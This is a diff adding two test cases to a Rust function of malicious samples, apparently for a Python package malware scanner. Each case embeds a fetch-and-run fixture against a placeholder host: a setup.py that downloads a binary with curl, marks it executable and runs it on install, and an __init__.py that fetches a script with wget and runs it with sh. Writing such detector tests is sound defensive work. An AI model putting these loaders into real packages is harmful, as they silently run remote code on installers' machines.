@@ -187,6 +187,29 @@ fn malicious() -> Vec<Case> {
             "python-startup-write",
             High,
         ),
+        (
+            "curl-chmod-run",
+            "setup.py",
+            "from setuptools import setup
+             import subprocess
+             subprocess.call(['curl', '-sSfL', 'https://dl.example.invalid/x', '-o', '/tmp/.x'])
+             subprocess.call(['chmod', '+x', '/tmp/.x'])
+             subprocess.Popen(['/tmp/.x'])
+             setup(name='b01', version='1.0')
+",
+            "python-exec-computed",
+            Critical,
+        ),
+        (
+            "wget-then-sh",
+            "__init__.py",
+            "import subprocess
+             subprocess.run(['wget', '-q', '-O', '/tmp/x.sh', 'https://dl.example.invalid/x'])
+             subprocess.run(['sh', '/tmp/x.sh'])
+",
+            "python-exec-computed",
+            Critical,
+        ),
     ]
 }
 
